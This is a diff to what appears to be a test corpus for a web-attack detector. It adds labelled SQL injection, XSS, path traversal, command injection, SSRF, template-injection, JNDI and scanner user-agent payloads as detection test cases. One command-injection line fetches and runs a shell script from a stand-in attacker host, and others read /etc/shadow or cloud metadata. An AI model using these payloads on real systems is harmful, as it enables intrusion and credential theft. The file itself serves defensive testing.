@@ -666,6 +666,42 @@ ZmEu
 Mozilla/5.0 Jorgee
 """)
 
+# Written after the detectors and run once, untuned (65 of 67 detected then; the two
+# misses found a bug in 12-digit octal hosts and a file:// URL counted as SSRF).
+LATER: list[tuple[str, str]] = [
+ ("sql_injection", "1 AND 1=1"), ("sql_injection", "1' AND '1'='1"), ("sql_injection", "1 AND SLEEP(5)"),
+ ("sql_injection", "' OR 'a'='a"), ("sql_injection", "admin' OR 1=1 LIMIT 1-- -"),
+ ("sql_injection", "1' ORDER BY 1--+"), ("sql_injection", "1 UNION SELECT NULL--"),
+ ("sql_injection", "' UNION SELECT NULL,NULL,NULL--"), ("sql_injection", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
+ ("sql_injection", "1;SELECT pg_sleep(5)"), ("sql_injection", "' AND 1=CAST((SELECT version()) AS int)--"),
+ ("sql_injection", "1' AND SUBSTRING(@@version,1,1)='5"), ("sql_injection", "') OR ('1'='1"),
+ ("sql_injection", "1 OR 1=1 -- -"), ("sql_injection", "'; SHUTDOWN--"),
+ ("sql_injection", "1%27%20OR%20%271%27%3D%271"), ("sql_injection", "1 AnD 1=1"),
+ ("xss", "<ScRiPt>alert(1)</sCrIpT>"), ("xss", "<img src=x onerror=alert`1`>"),
+ ("xss", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"), ("xss", "<details open ontoggle=alert(1)>"),
+ ("xss", "\"><img src=x onerror=confirm(1)>"), ("xss", "javascript:confirm(1)"),
+ ("xss", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>"), ("xss", "<body onload=alert('XSS')>"),
+ ("xss", "<iframe src=\"javascript:alert(1)\"></iframe>"), ("xss", "<input onfocus=alert(1) autofocus>"),
+ ("xss", "'\"><script>alert(document.domain)</script>"), ("xss", "<object data=\"data:text/html,<script>alert(1)</script>\">"),
+ ("path_traversal", "../../../../etc/passwd%00"), ("path_traversal", "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
+ ("path_traversal", "%2e%2e/%2e%2e/%2e%2e/etc/shadow"), ("path_traversal", "....\\\\....\\\\windows\\\\win.ini"),
+ ("path_traversal", "/var/log/nginx/access.log"), ("path_traversal", "../../../proc/self/cmdline"),
+ ("path_traversal", "file:///c:/windows/win.ini"), ("path_traversal", "php://filter/read=string.rot13/resource=config.php"),
+ ("command_injection", "; ls -la"), ("command_injection", "| cat /etc/shadow"), ("command_injection", "`uname -a`"),
+ ("command_injection", "$(cat /etc/passwd)"), ("command_injection", "&& ping -c 3 127.0.0.1"),
+ ("command_injection", "|| whoami"), ("command_injection", "\n/bin/sh -c id"), ("command_injection", "; wget http://evil.example/sh -O- | sh"),
+ ("command_injection", "127.0.0.1%0Aid"), ("command_injection", "x|timeout 5"),
+ ("ssrf", "http://169.254.169.254/latest/api/token"), ("ssrf", "http://[::1]:8080/"), ("ssrf", "http://127.0.0.1:6379/"),
+ ("ssrf", "gopher://localhost:11211/_stats"), ("ssrf", "http://metadata/computeMetadata/v1/"),
+ ("ssrf", "http://017700000001/"), ("ssrf", "http://0x7f000001/"),
+ ("template_injection", "{{ 7 * 7 }}"), ("template_injection", "${7*'7'}"), ("template_injection", "{{self.__dict__}}"),
+ ("template_injection", "{{ url_for.__globals__.os.popen('id').read() }}"), ("template_injection", "#{7*7}"),
+ ("jndi_injection", "${jndi:ldap://127.0.0.1:1389/a}"), ("jndi_injection", "${${lower:jndi}:${lower:rmi}://x/a}"),
+ ("jndi_injection", "${jndi:${lower:r}mi://x/a}"),
+ ("attack_tool", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"), ("attack_tool", "sqlmap/1.8#stable"),
+ ("attack_tool", "Nikto"), ("attack_tool", "gobuster/3.1.0"), ("attack_tool", "Wfuzz/2.4"),
+]
+
 
 def corpus() -> list[tuple[str, dict[str, Any]]]:
     """(expected attack type, ``Inspector.inspect`` keyword arguments) for every payload,
@@ -721,4 +757,9 @@ def corpus() -> list[tuple[str, dict[str, Any]]]:
             cases.append(("jndi_injection", {"query": query(q=payload)}))
     for payload in TOOL_USER_AGENTS:
         cases.append(("attack_tool", {"headers": {"user-agent": payload}}))
+    for kind, payload in LATER:
+        if kind == "attack_tool":
+            cases.append((kind, {"headers": {"user-agent": payload}}))
+        else:
+            cases.append((kind, {"query": query(q=payload)}))
     return cases
